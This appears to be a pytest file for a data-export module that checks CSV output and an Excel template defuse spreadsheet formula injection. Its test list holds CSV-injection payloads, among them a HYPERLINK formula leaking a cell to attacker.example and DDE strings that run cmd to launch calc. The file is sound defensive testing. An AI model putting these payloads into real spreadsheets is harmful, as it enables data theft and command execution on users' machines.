"""Safe exports (vawmap/exports.py): no CSV the app writes, and no name the Excel template
lists, is a formula a spreadsheet would run; numbers stay numbers."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from tests.privacy_fixtures import cells_of, formula_cells
from vawmap.dashboard.data import csv_bytes
from vawmap.exports import defused
from vawmap.ingest import ingest, render_problems
from vawmap.template import LISTS_SHEET, build_template

HOSTILE_TEXTS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_a_text_cell_that_starts_a_formula_is_written_as_text(text):
    data = csv_bytes(pd.DataFrame({"provider": pd.array([text], dtype="string")}))
    assert formula_cells(data) == []
    assert cells_of(data)[1] == ["'" + text]


def test_a_carriage_return_inside_a_cell_starts_no_row_of_its_own():
    data = csv_bytes(pd.DataFrame({"provider": ["Safe Haven\r=1+1"], "region": ["Nord"]}))
    assert cells_of(data) == [["provider", "region"], ["Safe Haven\r=1+1", "Nord"]]


def test_the_same_texts_unguarded_would_be_formulas():
    data = pd.DataFrame({"provider": HOSTILE_TEXTS}).to_csv(index=False).encode()
    assert len(formula_cells(data)) == len(HOSTILE_TEXTS)


def test_numbers_stay_numbers_and_other_cells_as_they_are():
    frame = pd.DataFrame(
        {
            "latitude": pd.array([-16.4949, None], dtype="Float64"),
            "change": pd.array([-3, 4], dtype="Int64"),
            "score": [-0.5, 1e-7],
            "provider": pd.array(["Safe Haven", None], dtype="string"),
            "note": ["-5", "e-mail: a@b"],  # text, in a text column: "-5" is guarded like any text
        }
    )
    rows = cells_of(csv_bytes(frame))
    assert rows[1] == ["-16.4949", "-3", "-0.5", "Safe Haven", "'-5"]
    assert rows[2] == ["", "4", "1e-07", "", "e-mail: a@b"]
    assert formula_cells(csv_bytes(frame)) == []


def test_a_header_that_starts_a_formula_is_guarded_too():
    assert cells_of(csv_bytes(pd.DataFrame({"=1+1": ["x"]})))[0] == ["'=1+1"]


def test_a_value_that_is_not_text_is_left_alone():
    assert defused(-5) == -5 and defused(None) is None and defused("Nord") == "Nord"


def test_the_problems_csv_guards_a_file_name_that_starts_a_formula():
    result = ingest([("=1+2.csv", b"provider,service_type,region\n@SUM(1),helpline,Nord\n")])
    data = csv_bytes(render_problems(result.problems))
    assert formula_cells(data) == []
    assert {row[0] for row in cells_of(data)[1:]} == {"'=1+2.csv"}


@pytest.fixture(scope="module")
def hostile_template():
    return load_workbook(io.BytesIO(build_template(regions=HOSTILE_TEXTS, actors=HOSTILE_TEXTS[::-1])))


def test_the_template_with_hostile_names_holds_no_formula(hostile_template):
    formulas = [
        cell.coordinate for ws in hostile_template for row in ws.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == []


def test_the_template_lists_hostile_names_as_written_and_marked_as_text(hostile_template):
    """Kept as written, so a name picked from the dropdown matches on upload; marked with Excel's
    quote prefix, so editing the cell does not make it a formula."""
    lists = hostile_template[LISTS_SHEET]
    headers = [cell.value for cell in lists[1]]
    for name in ("region", "actor"):
        column = headers.index(name) + 1
        cells = [lists.cell(row, column) for row in range(2, lists.max_row + 1) if lists.cell(row, column).value]
        assert sorted(cell.value for cell in cells) == sorted({text.strip() for text in HOSTILE_TEXTS})
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_a_name_with_a_control_character_does_not_break_the_template():
    workbook = load_workbook(io.BytesIO(build_template(regions=["North\x01ern"], actors=["A\x0bB"])))
    values = {cell.value for row in workbook[LISTS_SHEET].iter_rows() for cell in row}
    assert {"North ern", "A B"} <= values
